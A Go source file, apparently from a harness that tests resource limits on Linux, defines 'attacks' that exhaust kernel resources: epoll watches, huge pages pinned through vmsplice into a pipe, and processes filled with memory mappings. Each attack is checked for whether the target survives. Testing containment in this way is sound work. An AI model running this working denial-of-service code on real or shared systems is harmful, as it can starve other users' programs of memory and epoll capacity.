//go:build linux

package main

import (
	"fmt"
	"os"
	"os/exec"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

// keeping are further attacks on what the kernel keeps for a program.
var keeping = []attack{
	{name: "kept-epoll", what: "memory in epoll watches", slow: true, try: func(t *target) error {
		return crowd(t, "kept-epoll", func() error { return watches(hoardSize / 200) })
	}, check: survives},
	{name: "kept-gifts", what: "… in huge pages of which a pipe keeps a byte (vmsplice)", try: func(t *target) error {
		mostFiles()
		const huge = 2 << 20
		p := make([]int, 2)
		if err := unix.Pipe2(p, unix.O_CLOEXEC); err != nil {
			return err
		}
		slots, err := unix.FcntlInt(uintptr(p[1]), unix.F_SETPIPE_SZ, 1<<20)
		if err != nil {
			return err
		}
		pinned := 0
		for range slots / 4096 {
			b, err := unix.Mmap(-1, 0, 2*huge, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANON)
			if err != nil {
				return err
			}
			at := (huge - int(ptr(&b[0])%huge)) % huge
			unix.Madvise(b[at:at+huge], unix.MADV_HUGEPAGE)
			for i := at; i < at+huge; i += 4096 {
				b[i] = 1
			}
			v := unix.Iovec{Base: &b[at]}
			v.SetLen(1)
			if _, err := call(unix.SYS_VMSPLICE, uintptr(p[1]), ptr(&v), 1, 0); err != nil {
				return err
			}
			if err := unix.Munmap(b); err != nil {
				return err
			}
			if pinned += huge; pinned >= hoardSize {
				return nil
			}
		}
		return errNothing
	}, check: survives},
	{name: "kept-mappings", what: "… in the kernel's records of mappings", slow: true, try: func(t *target) error {
		return mappings(t)
	}, check: survives},
	{name: "starve-epoll", what: "taking a quarter of the epoll watches that a user may have (without any, no program in Go starts)", slow: true, try: func(t *target) error {
		return crowd(t, "starve-epoll", func() error { return watches(mostWatches() / 4) })
	}, check: survives},
}

// watches makes so many epoll watches, and no more.
func watches(most int) error {
	watched := make([]int, 2000)
	for i := range watched {
		fd, err := unix.Eventfd(0, unix.EFD_CLOEXEC)
		if err != nil {
			return err
		}
		watched[i] = fd
	}
	for {
		e, err := unix.EpollCreate1(unix.EPOLL_CLOEXEC)
		if err != nil {
			return err
		}
		for _, fd := range watched {
			if err := unix.EpollCtl(e, unix.EPOLL_CTL_ADD, fd, &unix.EpollEvent{Events: unix.EPOLLIN}); err != nil {
				return err
			}
			if room++; room >= most {
				return nil
			}
		}
	}
}

// mostWatches is how many epoll watches a user may have (epoll(7)).
func mostWatches() int {
	b, _ := os.ReadFile("/proc/sys/fs/epoll/max_user_watches")
	n, err := strconv.Atoi(strings.TrimSpace(string(b)))
	if err != nil {
		return 1 << 20
	}
	return n
}

// mappings makes processes of as many mappings as a process may have.
func mappings(t *target) error {
	most := hoardSize / 200
	for n := t.Taken; n < most; n += 60000 {
		cmd := exec.Command(t.Program, "mapper", "-", t.json())
		cmd.Env = []string{}
		out, err := cmd.StdoutPipe()
		if err != nil {
			return err
		}
		if _, err := cmd.StdinPipe(); err != nil {
			return err
		}
		if err := cmd.Start(); err != nil {
			return err
		}
		b := make([]byte, 200)
		k, _ := out.Read(b)
		if said := strings.TrimSpace(string(b[:k])); said != "mapped" {
			return fmt.Errorf("%s", said)
		}
	}
	return nil
}

// mapper makes many mappings of nothing.
func mapper() {
	b, err := unix.Mmap(-1, 0, 2*60000*4096, unix.PROT_NONE, unix.MAP_PRIVATE|unix.MAP_ANON|unix.MAP_NORESERVE)
	if err != nil {
		fmt.Println(err)
		return
	}
	for n := range 30000 {
		at := 2 * n * 4096
		if err := unix.Mprotect(b[at:at+4096], unix.PROT_READ); err != nil {
			fmt.Println(err)
			return
		}
	}
	fmt.Println("mapped")
	stay()
}
